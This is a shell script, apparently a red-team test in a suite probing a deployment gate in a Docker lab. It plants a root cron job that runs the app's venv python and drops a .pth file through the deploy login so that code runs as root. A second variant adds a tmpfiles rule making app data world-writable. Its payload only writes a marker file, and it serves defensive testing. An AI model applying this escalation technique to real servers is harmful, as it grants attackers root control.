#!/bin/sh
# A root job or boot action that reaches the app's tree through a glob (the shell, tmpfiles or logrotate expand it):
# the gate matched paths against the tree as written, so /var/www/*/current/... is not "in the app's tree".
#   cron:     * * * * * root /var/www/*/current/venv/bin/python -c ...   (root runs the release's python: the deploy
#             login's venv, its site-packages' .pth files, its sitecustomize)
#   tmpfiles: Z /var/www/*/shared 0777 - -   (root chmods the app's data, its config, world-writable at every boot)
# Usage: attack8/atk_glob_into_tree.sh /tmp/atk8 cron|tmpfiles
set -eu
W=${1:-/tmp/atk8}; V=${2:-cron}; CT=$(cat $W/ct)
case $V in
cron) printf '%s\n' '* * * * * root /var/www/*/current/venv/bin/python -c "import os; open(\"/tmp/root-ran\", \"a\").write(\"uid=\" + str(os.getuid()) + \" the release venv ran\\n\")"' | docker exec -i $CT sh -c 'rm -f /tmp/root-ran; cat > /etc/cron.d/app-tasks' 
      docker exec $CT cat /etc/cron.d/app-tasks
      ssh -F $W/ssh_config deployer 'd=$(ls -d /var/www/yourapplication/current/venv/lib/python3*/site-packages); echo "import os; open(\"/tmp/root-ran\", \"a\").write(\"uid=%d via the deploy login.s .pth\\n\" % os.getuid())" > $d/zz-deployer.pth'
      echo "--- waiting for cron's next minute"; sleep $((62 - $(date +%S | sed 's/^0//')))
      echo "--- /tmp/root-ran:"; docker exec $CT cat /tmp/root-ran || true ;;
tmpfiles) docker exec $CT sh -c "mkdir -p /etc/tmpfiles.d; echo 'Z /var/www/*/shared 0777 - -' > /etc/tmpfiles.d/app-perms.conf; cat /etc/tmpfiles.d/app-perms.conf" ;;
esac
echo "--- the gate (read-only, as admin):"
$W/gate.sh 2>&1 | grep -E "^FAILED|passed,|failed,|app-tasks|app-perms" | cut -c1-330 || true
[ -n "${KEEP:-}" ] || { docker exec $CT sh -c 'rm -f /etc/cron.d/app-tasks /etc/tmpfiles.d/app-perms.conf /tmp/root-ran'; ssh -F $W/ssh_config deployer 'rm -f /var/www/yourapplication/current/venv/lib/python3*/site-packages/zz-deployer.pth'; }
